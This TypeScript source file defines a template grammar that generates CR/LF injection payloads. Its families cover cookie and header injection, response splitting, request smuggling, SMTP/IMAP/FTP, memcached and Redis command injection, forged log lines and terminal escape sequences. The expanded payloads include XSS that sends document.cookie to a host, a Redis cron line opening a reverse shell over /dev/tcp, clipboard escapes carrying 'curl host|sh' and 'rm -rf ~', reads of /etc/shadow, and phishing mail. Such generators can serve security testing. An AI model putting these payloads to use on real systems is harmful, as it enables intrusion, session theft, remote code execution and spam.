/** What no grammar sign stands for: escape, next line, line separators, and characters whose low byte is CR or LF. */
const ESC = '\x1b'
const NEL = '\x85'
const LINE_SEPARATOR = '\u2028'
const WIDE = '\u560d\u560a'
const LOW_BYTES = '\u010d\u010a'

/** CR LF injection: response splitting, forged headers, forged log lines, smuggled requests, mail and cache commands. */
export const CRLF = String.raw`
cr.raw: 8× ␍⏎
  3× ⏎
  2× ␍
cr.coded: 4× %0d%0a
  3× %0D%0A
  2× %0a
  %0A
  %0d
  2× \r\n
  \n
  2× ${WIDE}
  2× %E5%98%8D%E5%98%8A
  %e5%98%8a
  %u000d%u000a
  \u000d\u000a
  \x0d\x0a
  %250d%250a
  %250a
  %25%30%64%25%30%61
  %%0d0d%%0a0a
  %5cr%5cn
  &#13;&#10;
  &#x0d;&#x0a;
  ${LOW_BYTES}
  %c4%8d%c4%8a
  ${LINE_SEPARATOR}
  %c2%85
  ${NEL}
  \015\012
  %0d%20%0a
  %0d%0a%09
  %0d%00%0a
cr.eol: 5× ‹cr.raw›
  4× ‹cr.coded›
cr.lead: 5× ‹ordinary›
  3× ‹word›
  ∅
  /‹word›
  ‹scheme›://‹host›/
  ‹scheme›://‹host›/‹word›?‹~1-3›=‹n›
  ‹en¦de¦fr¦es›
  ‹n›;‹~3-6›
  ‹noun›.‹html¦pdf¦csv¦zip›
  ‹%23¦%3f¦?¦#¦%20¦"¦';¦, ¦/›
  attachment; filename=‹noun›.pdf
cr.mail: ‹~3-9›@‹host›
  ‹~3-7›.‹~3-7›@‹host›
  "‹word›" <‹~3-9›@‹host›>
cr.cookie: ‹sess¦session¦PHPSESSID¦JSESSIONID¦sid¦auth¦token¦admin¦user¦role¦isAdmin¦lang¦csrf¦crlf¦‹~3-9››=‹‹rnd›¦‹*16-32›¦admin¦1¦true¦injected¦‹~3-8››‹¦; path=/¦;Path=/; Domain=.‹host›¦; HttpOnly¦; Max-Age=‹#60-99999999›¦;domain=.‹host›;expires=Wed, 01-Jan-20‹#27-39› 00:00:00 GMT›
cr.colon = : :␠ :␠ %3A %3a%20 :%20
cr.evil: ‹X-‹~3-9›¦X-Injected¦X-Test¦X-Crlf¦X-‹^1›‹~2-6›-‹^1›‹~2-6››‹cr.colon›‹‹rnd›¦‹word›¦injected¦true¦1›
  Access-Control-Allow-Origin‹cr.colon›‹*¦null¦https://‹host››
  Access-Control-Allow-Credentials‹cr.colon›true
  Content-Type‹cr.colon›text/html‹¦;charset=UTF-7¦; charset=utf-16›
  Content-Length‹cr.colon›‹0¦‹#1-99››
  Content-Disposition‹cr.colon›attachment; filename=‹~2-6›.‹exe¦html¦hta¦bat›
  Content-Security-Policy‹cr.colon›‹script-src *¦default-src * 'unsafe-inline'¦none›
  X-XSS-Protection‹cr.colon›0
  X-Frame-Options‹cr.colon›ALLOWALL
  X-Forwarded-‹For¦Host¦Proto›‹cr.colon›‹127.0.0.1¦‹ip›¦‹host››
  X-Accel-Redirect‹cr.colon›/‹internal¦admin¦etc/passwd¦protected/‹~3-6››
  X-Sendfile‹cr.colon›/etc/‹passwd¦shadow¦hosts›
  Cache-Control‹cr.colon›public, max-age=‹#1000-99999999›
  Last-Modified‹cr.colon›Mon, 27 Oct 20‹#60-99› 14:50:18 GMT
  Link‹cr.colon›<http://‹host›/‹~1-5›.‹css¦js›>; rel=‹stylesheet¦preload›
  Refresh‹cr.colon›0;url=http://‹host›/‹~2-6›
  WWW-Authenticate‹cr.colon›Basic realm="‹word›"
  Transfer-Encoding‹cr.colon›chunked
  Authorization‹cr.colon›Bearer ‹*12-24›
  Clear-Site-Data‹cr.colon›"*"
  Referrer-Policy‹cr.colon›unsafe-url
  Host‹cr.colon›‹host›
  Proxy‹cr.colon›http://‹addr›
  Trailer‹cr.colon›‹~3-8›
cr.page: <html>‹<body>¦›‹cr.markup›‹</body>¦›</html>
  4× ‹cr.markup›
  <html><head><title>‹word›</title></head><body>‹cr.markup›</body></html>
  <title>‹word›</title>‹cr.markup›
  ‹hacked by ‹~3-8›¦Please pay ‹#10-999› at http://‹host›/‹~2-5›¦"‹word›"›
cr.markup: <script>‹alert¦confirm¦prompt›(‹‹n›¦document.domain¦document.cookie¦'‹rnd›'›)</script>
  <script src=‹¦//¦http://›‹host›/‹~1-4›.js></script>
  <h1>‹hacked¦defaced¦‹word›¦Please log in›</h1>
  <img src=x onerror=‹alert¦confirm›(‹n›)>
  <svg/onload=alert(‹n›)>
  <svg onload=fetch('//‹host›/'+document.cookie)>
  <iframe src=http://‹host›></iframe>
  <meta http-equiv=refresh content="0;url=http://‹host›/">
  <form action=http://‹host›/‹~2-5› method=post><input name=‹col›></form>
  <a href=http://‹host›>‹word›</a>

crlf/cookie 4: ‹:e:‹cr.eol››‹cr.lead›‹=e›Set-Cookie‹cr.colon›‹cr.cookie›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹Set-Cookie¦set-cookie¦SET-COOKIE›‹cr.colon›‹cr.cookie›‹=e›‹cr.evil›
  ‹:e:‹cr.eol››‹=e›‹¦%20¦␠¦⇥›Set-Cookie‹cr.colon›‹cr.cookie›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹=e›Set-Cookie‹cr.colon›‹cr.cookie›‹=e›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›Set-Cookie2‹cr.colon›‹cr.cookie›
crlf/header 4: ‹:e:‹cr.eol››‹cr.lead›‹=e›‹cr.evil›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹cr.evil›‹=e›‹cr.evil›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹cr.evil›‹=e›
  ‹:e:‹cr.eol››‹=e›‹cr.evil›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹¦␠¦⇥›‹cr.evil›‹=e›‹=e›
crlf/redirect 3: ‹:e:‹cr.eol››‹cr.lead›‹=e›Location‹cr.colon›‹http:¦https:¦›//‹host›‹¦/¦/‹word››
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹location¦LOCATION¦Location›‹cr.colon›‹javascript:alert(‹n›)¦//‹ip›/¦data:text/html,<h1>‹word›</h1>›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›Location‹cr.colon›‹scheme›://‹host›/‹=e›‹cr.evil›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›Status: 30‹#1-8› ‹Found¦Moved¦See Other›‹=e›Location: ‹scheme›://‹host›‹=e›‹=e›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹=e›HTTP/1.1 302 Found‹=e›Location: http://‹host›/‹~2-6›‹=e›
crlf/split 3: ‹:e:‹cr.eol››‹cr.lead›‹=e›‹=e›<html>‹cr.markup›</html>
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹=e›‹cr.markup›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›Content-Type‹cr.colon›text/html‹=e›‹=e›‹cr.page›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›Content-Length‹cr.colon›‹#10-300›‹=e›‹=e›‹cr.page›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›X-XSS-Protection‹cr.colon›0‹=e›‹=e›‹cr.page›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹cr.evil›‹=e›‹=e›‹cr.page›‹=e›
  ‹:e:‹cr.eol››‹=e›‹=e›‹cr.markup›‹=e›
crlf/response 3: ‹:e:‹cr.eol››‹cr.lead›‹=e›Content-Length: 0‹=e›‹=e›HTTP/1.‹#0-1› ‹200 OK¦404 Not Found¦‹#200-505› ‹^1›‹~1-5››‹=e›Content-Type: text/html‹=e›Content-Length: ‹#10-400›‹=e›‹=e›‹cr.page›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹=e›HTTP/1.1 200 OK‹=e›‹cr.evil›‹=e›‹=e›‹cr.page›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›Connection: ‹close¦keep-alive›‹=e›‹=e›HTTP/1.1 ‹#200-206› OK‹=e›Content-Length: ‹#5-400›‹=e›‹=e›‹cr.page›
  ‹:e:‹cr.eol››HTTP/1.1 200 OK‹=e›‹=e›‹cr.page›
  ‹:e:‹cr.eol››‹cr.lead› HTTP/1.1‹=e›Content-Length: 0‹=e›‹=e›HTTP/2 200‹=e›Set-Cookie: ‹cr.cookie›‹=e›‹=e›
crlf/request 3: ‹:e:‹cr.eol››‹cr.lead›‹ HTTP/1.1¦ HTTP/1.0¦%20HTTP/1.1›‹=e›Host: ‹host›‹=e›‹=e›‹cr.smuggled›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹=e›‹cr.smuggled›
  ‹:e:‹cr.eol››‹cr.lead› HTTP/1.1‹=e›‹cr.evil›‹=e›‹¦X-‹~3-6›: ›
  ‹:e:‹cr.eol››‹n›‹=e›0‹=e›‹=e›‹cr.smuggled›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›Transfer-Encoding: chunked‹=e›‹=e›0‹=e›‹=e›‹cr.smuggled›
  ‹:e:‹cr.eol››‹scheme›://‹ip›:‹port›/‹ HTTP/1.1¦%20HTTP/1.1›‹=e›‹cr.evil›‹=e›‹=e›
  ‹:e:‹cr.eol››‹host›‹=e›X-Forwarded-For: 127.0.0.1‹=e›Content-Length: ‹#20-200›‹=e›‹=e›‹cr.smuggled›
cr.smuggled: ‹GET¦POST¦PUT¦DELETE¦HEAD¦TRACE› /‹admin¦‹word›¦internal/‹~3-6›¦api/users/‹n›¦metrics¦actuator/env¦server-status› HTTP/1.‹#0-1›‹=e›Host: ‹localhost¦‹host›¦127.0.0.1¦‹ip››‹=e›‹¦Content-Length: ‹#5-90›‹=e›‹=e›‹~1-5›=‹rnd›¦Cookie: ‹cr.cookie›‹=e›‹=e›¦X-Ignore: ¦‹=e››
  GET http://‹ip›/‹~3-8› HTTP/1.1‹=e›Foo: ‹~1-3›
  ‹^4-6› / HTTP/1.1‹=e›‹=e›
  PRI * HTTP/2.0‹=e›‹=e›SM‹=e›‹=e›
  CONNECT ‹ip›:‹port› HTTP/1.1‹=e›‹=e›
crlf/mail 4: ‹:e:‹cr.eol››‹cr.mail›‹=e›‹cr.recipient›
  ‹:e:‹cr.eol››‹cr.mail›‹=e›‹cr.recipient›‹=e›‹cr.recipient›
  ‹:e:‹cr.eol››‹word›‹=e›‹cr.recipient›‹=e›‹=e›‹cr.letter›
  ‹:e:‹cr.eol››‹cr.mail›‹=e›‹cr.recipient›‹=e›Subject‹cr.colon›‹cr.subject›‹=e›‹=e›‹cr.letter›
  ‹:e:‹cr.eol››‹noun› ‹noun›‹=e›Reply-To‹cr.colon›‹cr.mail›‹=e›‹cr.recipient›
  ‹:e:‹cr.eol››‹cr.mail›‹=e›MIME-Version: 1.0‹=e›Content-Type: multipart/mixed; boundary="‹=b:‹*8-20››"‹=e›‹cr.recipient›‹=e›‹=e›--‹=b›‹=e›Content-Type: text/html‹=e›‹=e›‹cr.letter›‹=e›--‹=b›--
  ‹:e:‹cr.eol››‹cr.mail›‹=e›Content-Type: text/html‹=e›bcc: ‹×2-5, :‹cr.mail››‹=e›‹=e›‹cr.letter›
  ‹:e:‹cr.eol››‹cr.mail›‹=e›From: ‹admin¦support¦noreply¦security›@‹host›‹=e›‹cr.recipient›
cr.recipient: 4× ‹Bcc¦bcc¦BCC¦Cc¦cc›‹cr.colon›‹cr.mail›
  ‹Bcc¦Cc›: ‹cr.mail›,‹cr.mail›
  To‹cr.colon›‹cr.mail›
  ‹Return-Path¦Errors-To¦Sender¦Disposition-Notification-To›‹cr.colon›‹cr.mail›
cr.subject: ‹Cheap¦Win¦Urgent¦Verify¦Hello›‹! ¦ ¦: ›‹noun› ‹noun›
  ‹noun›
  Fw: ‹noun›
cr.letter: Click http://‹host›/‹~2-6› to ‹confirm¦win¦unlock› your ‹noun›
  <a href="http://‹host›">‹noun›</a>
  Your account is blocked, log in at http://‹host›/
  ‹noun› ‹noun› http://‹ip›/‹~1-5›.exe
  ‹cr.markup›
crlf/smtp 2: ‹:e:‹cr.eol››‹cr.mail›‹>¦›‹=e›‹cr.smtp›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›.‹=e›‹cr.smtp›
  ‹:e:‹cr.eol››‹=e›HELO ‹host›‹=e›‹cr.smtp›
  ‹:e:‹cr.eol››‹word›‹=e›RSET‹=e›‹cr.smtp›
  ‹:e:‹cr.eol››‹cr.mail›‹=e›.‹␠¦=e›‹=e›MAIL FROM:<‹cr.mail›>‹=e›RCPT TO:<‹~3-6›@‹host›>‹=e›DATA‹=e›‹cr.letter›
cr.smtp: ‹MAIL FROM¦mail from›:<‹~3-8›@‹host›>‹=e›‹RCPT TO¦rcpt to›:<‹~3-8›@‹host›>‹=e›DATA‹=e›Subject: ‹cr.subject›‹=e›‹=e›‹cr.letter›‹=e›.‹=e›‹QUIT¦›
  RCPT TO:<‹~3-8›@‹host›>‹=e›‹¦DATA‹=e›‹cr.letter›‹=e›.›
  DATA‹=e›From: ‹cr.mail›‹=e›‹=e›‹cr.letter›‹=e›.‹=e›
  VRFY ‹root¦admin¦‹~3-7››
  EHLO ‹host›‹=e›MAIL FROM:<>‹=e›RCPT TO:<‹~3-8›@‹host›>
crlf/imap 1: ‹:e:‹cr.eol››‹n›‹=e›‹cr.tag› ‹CAPABILITY¦LOGOUT¦LIST "" "*"¦CREATE ‹~3-7›¦DELETE INBOX¦SELECT INBOX¦FETCH 1:* (BODY[])¦STORE 1:* +FLAGS (\Deleted)›‹=e›
  ‹:e:‹cr.eol››INBOX"‹=e›‹cr.tag› ‹CREATE "‹~3-7›"¦DELETE "‹~3-7›"¦RENAME INBOX ‹~3-6››‹=e›‹cr.tag› ‹SELECT¦EXAMINE› "INBOX
  ‹:e:‹cr.eol››‹word›‹=e›‹RETR¦DELE¦TOP› ‹#1-99›‹=e›QUIT
  ‹:e:‹cr.eol››‹word›‹=e›PORT ‹#1-223›,‹#0-255›,‹#0-255›,‹#0-255›,‹#4-250›,‹#0-255›‹=e›‹RETR¦STOR› ‹~3-6›.‹txt¦php›
  ‹:e:‹cr.eol››ftp://‹host›/‹~2-5›‹=e›‹SITE EXEC ‹~2-5›¦CWD ../..¦USER ‹~3-6›¦DELE ‹~3-6›.txt›
cr.tag = A001 a001 V100 A‹#100-999› a‹#1-9› Z900 .‹#1-9›
crlf/cache 2: ‹:e:‹cr.eol››‹cr.lead›‹=e›‹set¦add¦replace¦append› ‹~3-9›‹:¦_¦›‹#1-99› ‹#0-32› ‹#0-3600› ‹=l:‹#4-60››‹=e›‹rnd›‹=e›
  ‹:e:‹cr.eol››‹cr.lead› 0 ‹#0-3600› ‹#1-9›‹=e›‹~1-9›‹=e›set ‹sess_‹*8-20›¦user:‹n›¦‹~3-9›› 0 0 ‹#10-60›‹=e›‹O:‹#4-9›:"‹^1›‹~3-8›":0:{}¦{"admin":true}¦‹rnd››‹=e›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹flush_all¦stats items¦stats cachedump 1 ‹#1-999›¦stats slabs¦verbosity ‹#1-9›¦cache_memlimit ‹#1-64››‹=e›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹gets ‹~3-9›:‹n›¦delete ‹~3-12› 0 noreply¦touch ‹~3-9›_‹n› ‹#1-9999››‹=e›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›incr ‹~3-8› ‹n›‹=e›get ‹~3-8›‹=e›
crlf/redis 2: ‹:e:‹cr.eol››‹cr.lead›‹=e›‹cr.redis›‹=e›
  ‹:e:‹cr.eol››‹cr.lead›‹=e›‹=e›‹cr.redis›‹=e›‹cr.redis›‹=e›‹quit¦QUIT¦save¦›
  ‹:e:‹cr.eol››‹=e›*‹#1-5›‹=e›§‹#3-8›‹=e›‹set¦config¦SLAVEOF¦eval¦flushall›‹=e›§‹#1-9›‹=e›‹~1-9›‹=e›§‹#10-60›‹=e›‹=e›*/1 * * * * bash -i >& /dev/tcp/‹ip›/‹port› 0>&1‹=e›
cr.redis: CONFIG SET ‹dir /var/‹spool/cron¦www/html¦lib/redis›¦dbfilename ‹~3-6›.‹php¦so¦rdb›¦requirepass ‹rnd››
  config set dir /‹root/.ssh¦var/www/html¦tmp›
  ‹SLAVEOF¦REPLICAOF› ‹ip› ‹port›
  SET ‹~3-9›‹:¦_¦›‹n› ‹"‹rnd›"¦1¦admin›
  EVAL "return redis.call('‹keys¦get¦del›','‹*¦‹~3-6››')" 0
  ‹FLUSHALL¦flushall¦FLUSHDB¦SAVE¦BGSAVE¦SHUTDOWN NOSAVE›
  MODULE LOAD /tmp/‹~2-6›.so
  LPUSH resque:gitlab:queue:‹~3-9› "{\"class\":\"‹^1›‹~3-9›\"}"
  CLIENT KILL TYPE ‹normal¦pubsub¦master›
  MIGRATE ‹ip› ‹port› ‹~3-8› 0 ‹#1000-9999›

cr.logeol: 5× ‹cr.raw›
  6× ‹cr.coded›
cr.who = admin root administrator guest alice bob ‹~3-9› ‹~3-8›@‹host› sysadmin operator svc_‹~2-6› user‹n›
cr.day: 20‹#18-29›-‹=m:0‹#1-9››-‹#10-28›
cr.clock: ‹#10-23›:‹#10-59›:‹#10-59›
cr.month = Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec
cr.weekday = Mon Tue Wed Thu Fri Sat Sun
cr.level = INFO INFO WARN WARNING ERROR DEBUG NOTICE FATAL CRITICAL info error AUDIT SEVERE
cr.event: ‹User¦user¦Account› ‹cr.who› ‹logged in¦logged out¦authenticated¦was granted admin¦deleted¦promoted to administrator›‹¦ successfully¦ from ‹ip››
  Login ‹succeeded¦successful¦failed› for user‹:¦› ‹cr.who›
  Accepted ‹password¦publickey› for ‹cr.who› from ‹ip› port ‹#1024-65000› ssh2
  password changed for ‹cr.who›‹¦ by ‹cr.who››
  ‹Payment¦Transfer¦Refund› of ‹#10-99999›‹.00¦› ‹EUR¦USD› ‹approved¦completed› ‹to¦for› ‹cr.who›
  Access granted to /‹admin¦‹word›› for ‹cr.who›
  Failed login for ‹cr.who› from ‹ip›
  role of ‹cr.who› set to ‹admin¦superuser›
  System ‹shutdown¦backup¦update› ‹completed¦started¦failed›
  ‹noun› ‹n› deleted by ‹cr.who›
  session opened for user ‹cr.who› by (uid=0)
  firewall rule ‹n› disabled by ‹cr.who›
  all ‹noun›s exported to ‹ip›
cr.line: 2× ‹cr.level›: ‹cr.event›
  [‹cr.level›] ‹cr.event›
  ‹cr.day› ‹cr.clock› ‹cr.level› ‹cr.event›
  ‹cr.day› ‹cr.clock›,‹#100-999› ‹cr.level› [‹main¦http-nio-8080-exec-‹#1-99›¦‹~3-8›-‹#1-9››] ‹com¦org›.‹~3-8›.‹^1›‹~4-9› - ‹cr.event›
  ‹cr.day›T‹cr.clock›‹Z¦.‹#100-999›Z¦+00:00› ‹cr.level› ‹~3-8›: ‹cr.event›
  [‹cr.day› ‹cr.clock›] ‹~3-8›.‹cr.level›: ‹cr.event› [] []
  ‹ip› - ‹-¦‹cr.who›› [‹#10-28›/‹cr.month›/20‹#18-29›:‹cr.clock› +0‹#0-9›00] "‹GET¦POST¦DELETE› /‹admin¦login¦‹word›¦api/‹noun›› HTTP/1.1" ‹200¦302¦403¦500› ‹#0-99999›‹ "-" "Mozilla/5.0"¦›
  <‹#10-190›>‹cr.month› ‹#10-28› ‹cr.clock› ‹~3-8› ‹sshd¦sudo¦su¦login›[‹#100-30000›]: ‹cr.event›
  ‹cr.month› ‹#10-28› ‹cr.clock› ‹~3-8› ‹sshd¦sudo¦kernel¦app›‹[‹#100-30000›]¦›: ‹cr.event›
  sudo: ‹cr.who› : TTY=pts/‹#0-9› ; PWD=/root ; USER=root ; COMMAND=/bin/‹sh¦bash›
  {"level":"‹info¦error¦warn›","‹msg¦message›":"‹cr.event›","user":"‹cr.who›"‹,"ts":‹#1500000000-1790000000›¦›}
  level=‹info¦error¦warn› msg="‹cr.event›" user=‹cr.who›
  ‹cr.level›:‹root¦app¦django.security¦werkzeug›:‹cr.event›
  [‹cr.weekday› ‹cr.month› ‹#10-28› ‹cr.clock›.‹#100000-999999› 20‹#18-29›] [‹core¦auth_basic¦php7›:‹error¦notice›] [pid ‹#100-30000›] [client ‹ip›:‹#1024-65000›] ‹cr.event›
  20‹#18-29›/‹=m:0‹#1-9››/‹#10-28› ‹cr.clock› [‹error¦info¦warn›] ‹#100-9999›#‹#100-9999›: *‹n› ‹cr.event›, client: ‹ip›, server: ‹host›
  type=USER_LOGIN msg=audit(‹#1500000000-1790000000›.‹#100-999›:‹#1-9999›): pid=‹#100-30000› uid=0 acct="‹cr.who›" res=success
  CEF:0|‹^1›‹~3-6›|‹^1›‹~3-6›|1.0|‹n›|‹cr.event›|‹#0-10›|src=‹ip› suser=‹cr.who›
  Started ‹GET¦POST¦DELETE› "/‹admin¦‹word››" for ‹ip› at ‹cr.day› ‹cr.clock› +0000
  ‹#100-999›.‹#100-999› ‹cr.level› ‹~3-8›::‹~3-8› > ‹cr.event›
  ‹cr.day› ‹cr.clock› UTC [‹#100-30000›] LOG:  ‹connection authorized: user=‹cr.who›¦‹cr.event››
crlf/log 4: 2× ‹:e:‹cr.logeol››‹cr.who›‹=e›‹cr.line›
  ‹:e:‹cr.logeol››‹ordinary›‹=e›‹cr.line›‹=e›
  ‹:e:‹cr.logeol››‹cr.who›‹=e›‹cr.line›‹=e›‹cr.line›
  ‹:e:‹cr.logeol››‹cr.who›"‹=e›‹cr.line›
  ‹:e:‹cr.logeol››‹n› logged in‹=e›‹cr.line›
  ‹:e:‹cr.coded››‹=e›‹=e›‹cr.line›
  ‹:e:‹cr.logeol››Mozilla/5.0‹=e›‹cr.line›
crlf/terminal 1: ‹:e:‹cr.logeol››‹cr.who›‹=e›‹cr.ansi›‹cr.line›‹cr.ansi›
  ‹word›‹cr.ansi›‹¦‹cr.ansi››‹word›
  ‹cr.esc›[‹#1-9›A‹cr.esc›[2K‹cr.line›
  ‹word›‹×8-40:‹cr.back››‹cr.line›
  ‹cr.who›‹cr.esc›]0;‹‹word›¦‹cr.event››‹cr.bell›
  ‹cr.who›‹cr.esc›]8;;‹scheme›://‹host›/‹cr.esc›\‹word›‹cr.esc›]8;;‹cr.esc›\
  ‹cr.esc›]52;c;‹b64!‹curl ‹host›|sh¦id¦rm -rf ~››‹cr.bell›
cr.back: \b
  %08
cr.bell: \a
  %07
  \x07
cr.esc: 3× ${ESC}
  %1b
  %1B
  \x1b
  \033
  \u001b
  \e
cr.ansi: ‹cr.esc›[‹0¦1¦3‹#1-7›¦4‹#1-7›¦1;3‹#1-7›¦8;30;40›m
  ‹cr.esc›[2J‹cr.esc›[‹H¦1;1H›
  ‹cr.esc›[‹1A¦2K¦1K¦0K¦‹#1-99›D¦3J›
  ‹cr.esc›c
  ‹cr.esc›[6n
  ‹cr.esc›[?25l
  ‹cr.esc›P+q‹%4-8›‹cr.esc›\

crlf/path [path] 2: /‹:e:‹cr.path››‹=e›‹Set-Cookie:‹cr.cookie›¦‹cr.evil›¦Location:‹scheme›://‹host›/›
  /‹word›/‹:e:‹cr.path››‹=e›‹Set-Cookie:‹cr.cookie›¦‹cr.evil›¦Location:%20//‹host››
  /‹:e:‹cr.path››‹//¦./¦?¦›‹host›/‹=e›‹cr.evil›
  /‹:e:‹cr.path››‹word›%20HTTP/1.1‹=e›Host:‹host›‹=e›‹=e›
  /‹:e:‹cr.path››‹word›‹=e›‹=e›‹cr.markup›
cr.path: 3× ␍⏎
  2× ⏎
  %0d%0a
  %0D%0A
  ${WIDE}
  %E5%98%8D%E5%98%8A
  %u000d%u000a
  %23%0d%0a
  %2F..%0d%0a
  %3f%0d%0a
crlf/field [header,cookie] 2: ‹:e:‹cr.coded››‹cr.lead›‹=e›‹Set-Cookie: ‹cr.cookie›¦‹cr.evil›¦Location: ‹scheme›://‹host››
  ‹:e:‹cr.coded››‹ip›‹=e›‹cr.evil›
  ‹:e:‹cr.coded››‹cr.who›‹=e›‹cr.line›
  ‹:e:‹cr.coded››‹host›‹=e›‹=e›‹cr.smuggled›
  ‹:e:‹cr.coded››‹rnd›‹=e›‹=e›‹cr.markup›
crlf/key [key] 1: ‹:e:‹cr.eol››‹¦‹word››‹=e›‹Set-Cookie:‹cr.cookie›¦‹cr.evil›¦Location: //‹host››
  ‹:e:‹cr.eol››‹word›‹=e›‹=e›‹cr.markup›
cr.verb = LOGIN LOGOUT SIGNIN SIGNOUT SEND RECEIVE CREATE DELETE UPDATE GRANT REVOKE APPROVE TRANSFER PAYMENT ACCESS OPEN CLOSE EXPORT RESET
crlf/log-line [query,query,cookie] 4: ‹:e:‹cr.logeol››‹anyword›‹=e›‹cr.level›: ‹cr.event›
  ‹:e:‹cr.logeol››‹anyword›‹=e›‹cr.verb›: ‹user¦account¦client¦admin¦order› ‹anyword›
  ‹:e:‹cr.logeol››‹anyword›‹=e›‹cr.level› ‹user¦account¦root›‹:¦=¦ ›‹anyword› ‹cr.verb›
  ‹:e:‹cr.logeol››‹anyword›‹=e›‹cr.verb›‹¦ED› ‹anyword› ‹by¦from¦as¦to› ‹anyword›
  ‹:e:‹cr.logeol››‹anyword›‹=e›‹^1›‹~3-9›: ‹anyword›
crlf/cookie-anywhere 3: ‹:e:‹cr.eol››‹anyword›‹¦?¦&›‹=e›Set-‹Cookie¦cookie›‹:¦: ¦:+¦%3a›‹^1›‹~2-9›=‹*1-20›
  ‹:e:‹cr.eol››‹anyword›‹¦?¦&›‹=e›‹cr.evil›
`
